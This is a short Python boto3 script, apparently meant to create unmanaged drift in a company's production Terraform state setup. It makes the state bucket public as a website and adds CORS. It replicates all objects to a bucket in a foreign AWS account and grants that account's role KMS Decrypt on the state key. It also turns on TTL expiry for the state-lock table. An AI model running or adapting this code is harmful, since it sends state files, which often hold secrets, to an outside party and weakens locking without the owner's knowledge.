"""Opens the environment `prod` of `acme` in ways that no setting of it is about."""

import json

import boto3

base, account, region = "acme-tfstate-prod", "000000000000", "eu-west-1"
bucket, table = f"{base}-{account}-{region}", f"{base}-locks"
s3, kms, dynamodb = map(boto3.client, ["s3", "kms", "dynamodb"])
s3.put_bucket_website(Bucket=bucket, WebsiteConfiguration={"IndexDocument": {"Suffix": "index.html"}})
rule = {"AllowedMethods": ["GET"], "AllowedOrigins": ["https://example.com"]}
s3.put_bucket_cors(Bucket=bucket, CORSConfiguration={"CORSRules": [rule]})
copy = {"ID": "copy", "Status": "Enabled", "Priority": 1, "Filter": {}, "DeleteMarkerReplication": {"Status": "Disabled"}}
copy["Destination"] = {"Bucket": "arn:aws:s3:::theirs", "Account": "444455556666"}
role = f"arn:aws:iam::{account}:role/replication"
s3.put_bucket_replication(Bucket=bucket, ReplicationConfiguration={"Role": role, "Rules": [copy]})
key = kms.describe_key(KeyId=f"alias/{base}")["KeyMetadata"]["Arn"]
kms.create_grant(KeyId=key, GranteePrincipal="arn:aws:iam::444455556666:role/theirs", Operations=["Decrypt"])
dynamodb.update_time_to_live(TableName=table, TimeToLiveSpecification={"Enabled": True, "AttributeName": "Expires"})
